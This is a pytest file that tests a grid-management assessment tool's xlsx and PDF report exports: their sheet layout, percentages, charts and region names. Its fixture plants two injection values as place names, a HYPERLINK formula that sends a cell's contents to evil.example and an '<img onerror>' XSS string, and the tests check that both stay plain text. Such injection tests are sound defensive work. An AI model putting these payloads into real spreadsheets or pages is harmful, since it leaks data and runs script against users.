"""The xlsx opens with openpyxl and has one sheet per level with its header block, rows and
rates as % numbers; the PDF is a PDF whose text (extracted, CID font) names the region and
the places. Hostile place names stay text in both."""

import io
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from civicgrid.assessment.reports import build_report, render_pdf, render_xlsx
from civicgrid.assessment.rollup import rollup
from civicgrid.assessment.tests.history import DAY, crew, handled_case

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
MARKUP = "<img src=x onerror=alert(1)>社区"


@pytest.fixture
def report(city, users):
    city.comm_a1.name = city.comm_a1.short_name = MARKUP
    city.comm_a1.save()
    grid = city.grids["a1_west"]
    grid.name = FORMULA
    grid.save()
    for on_time in (True, False):
        handled_case(
            grid.code,
            **crew(users),
            fed_back_on_time=on_time,
        )
    rollup(DAY - timedelta(days=1), DAY + timedelta(days=1))
    return build_report(city.street_a, DAY)


def test_xlsx_has_a_sheet_per_level_with_header_rows_and_percent(city, report):
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    assert book.sheetnames == ["社区", "网格", "部门", "图表"]
    ws = book["社区"]
    assert ws["A1"].value == "区划" and city.street_a.code in ws["B1"].value
    assert ws["B2"].value == "2026年10月"
    labels = [ws.cell(row=r, column=1).value for r in range(7, ws.max_row + 1)]
    assert labels[-1].endswith("合计")
    assert {city.comm_a2.short_name} <= set(labels)
    header = [c.value for c in ws[6]]
    col = header.index("按期结案率") + 1
    total = ws.cell(row=ws.max_row, column=col)
    assert total.value == pytest.approx(0.5)
    assert total.number_format == "0.00%"
    assert ws.cell(row=ws.max_row, column=header.index("立案数") + 1).value == 2
    assert header[-3:] == ["综合得分", "等级", "排名"]
    by_label = {
        ws.cell(row=r, column=1).value: [c.value for c in ws[r]] for r in range(7, ws.max_row + 1)
    }
    row = next(r for r in report.sheets[0].rows if r.score is not None)
    score, grade, rank = by_label[row.label][-3:]
    assert (score, grade, rank) == (round(row.score, 2), row.grade, 1)
    assert ws.cell(row=labels.index(row.label) + 7, column=len(header) - 2).number_format == "0.00"
    # A quiet community has no score, and the total no rank.
    assert by_label[city.comm_a2.short_name][-3:] == ["—", "—", "—"]
    assert by_label[labels[-1]][-1] == "—"
    assert book["部门"].cell(row=7, column=len(header)).value == "—"


def test_xlsx_chart_sheet_draws_the_trend_and_the_close_rates(report):
    data = render_xlsx(report)
    ws = load_workbook(io.BytesIO(data))["图表"]
    assert [c.value for c in ws[1]] == ["月份", "立案数", "结案数"]
    months = [ws.cell(row=r, column=1).value for r in range(2, 14)]
    assert months[-1] == "2026年10月" and len(set(months)) == 12
    assert ws.cell(row=13, column=2).value == 2
    # openpyxl does not read charts back: look in the package.
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        charts = sorted(n for n in package.namelist() if n.startswith("xl/charts/chart"))
        xml = [package.read(n).decode() for n in charts]
    assert len(charts) == 2
    assert any("<lineChart>" in x and "'图表'!$B$2:$B$13" in x for x in xml)
    assert any("<barChart>" in x and "'图表'!$B$16" in x for x in xml)


def test_hostile_names_are_text_in_xlsx(report):
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value]
    grid_cells = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert grid_cells
    for c in grid_cells:
        assert c.data_type == "s" and c.value == "'" + FORMULA
    assert any(c.value == MARKUP for c in cells)


def test_pdf_names_region_and_keeps_hostile_names_as_text(city, report):
    data = render_pdf(report)
    assert data.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    assert f"{city.street_a}网格化管理月度考核报告" in text.replace("\n", "")
    assert "2026年10月" in text
    # Table cells wrap long names at spaces: compare with the line breaks as spaces.
    flat = " ".join(text.split())
    assert "<img src=x onerror=alert(1)>" in flat
    assert "=HYPERLINK(" in flat
    assert "综合得分" in text and "排名" in text
